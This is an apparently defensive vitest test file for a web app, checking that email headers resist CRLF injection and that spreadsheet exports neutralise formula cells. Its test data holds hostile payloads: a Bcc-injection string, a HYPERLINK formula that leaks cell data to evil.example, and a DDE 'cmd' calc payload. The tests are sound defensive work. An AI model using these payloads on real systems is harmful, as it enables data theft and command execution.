import { afterAll, beforeAll, expect, it } from 'vitest';
import { rejectPost } from '../../contract/decisions.ts';
import { createPost } from '../../contract/posting/posting.ts';
import { exportListings } from '../../contract/transfers.ts';
import { overNetwork } from '../testing/network-site.ts';
import { jobBody, makeOld } from '../testing/test-bodies.ts';
import { addressBelow, noon, type TestSite, testSite } from '../testing/test-site.ts';

/* User input in what other programs parse: email headers and spreadsheet cells. */

let site: TestSite;
beforeAll(async () => {
  site = await overNetwork(await testSite(() => noon, { RATE_LIMITS: '0' }));
});
afterAll(() => site.close());

const post = (path: string, body: unknown) =>
  site.ask(addressBelow(path), {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });

const attack = 'Huda\r\nBcc: all@post.example\r\n\r\nBuy now';

it('the name of an account cannot inject an email header', async () => {
  const password = 'swordfish-and-olives';
  const fields = {
    email: 'huda@post.example',
    password,
    passwordConfirmation: password,
    termsAccepted: true,
  };
  expect((await post('register', { ...fields, name: attack })).status).toBe(201);
  const mail = await site.nextMail();
  expect(mail.receiver).toBe('huda@post.example');
  expect(mail.headers.map(({ key }) => key)).not.toContain('bcc');
  expect([mail.bcc, mail.cc, mail.to?.length]).toEqual([undefined, undefined, 1]);
});

it('nor can the title of a post, nor a notification to admins about one', async () => {
  const [poster, judge] = [await site.member({ name: attack }), await site.member({ role: 'moderator' })];
  await makeOld(site, poster);
  const made = await poster.callUnchecked(createPost, {
    params: { folder: 'jobs' },
    body: { ...jobBody(site), title: attack },
  });
  expect(made.status, await made.clone().text()).toBe(201);
  const { id } = (await made.json()).data;
  const refused = await judge.call(rejectPost, {
    params: { kind: 'job', id },
    body: { reason: attack },
  });
  expect(refused.status).toBe(200);
  const mail = await site.nextMail();
  expect([mail.receiver, mail.bcc, mail.cc]).toEqual([poster.email, undefined, undefined]);
  expect(mail.headers.map(({ key }) => key)).not.toContain('bcc');
  expect(mail.subject).not.toMatch(/[\r\n]/);
});

it.each([
  'huda@post.example\r\nBcc: all@post.example',
  'huda@post.example, all@post.example',
  'Huda <huda@post.example>',
  '"a@b"@post.example',
])('no email is sent to an address like %j', async (email) => {
  for (const path of ['subscribes', 'forgot-password', 'contact'])
    expect([path, (await post(path, { name: 'Huda', email, message: 'Hello' })).status]).toEqual([path, 422]);
  expect(await site.otherMails()).toEqual([]);
});

it('no cell of a spreadsheet file is a formula', async () => {
  const admin = await site.member({ role: 'admin' });
  const formulas = [
    '=HYPERLINK("https://evil.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1)',
    '\t=1+1',
    "'=1+1",
  ];
  const ids = await site.addBusinesses(
    ...formulas.map((name) => ({ name: { en: name }, street: name, website: 'https://yafa.example/' })),
  );
  expect(ids).toHaveLength(formulas.length);
  const response = await admin.call(exportListings, { query: { kind: 'businesses' } });
  expect(response.status, await response.clone().text()).toBe(200);
  const text = await response.text();
  expect(text).toContain('HYPERLINK');
  expect(text).not.toMatch(/(^|[,\n])"?[=+\-@\t](?![\d.]+"?(,|\r|$))/m);
});
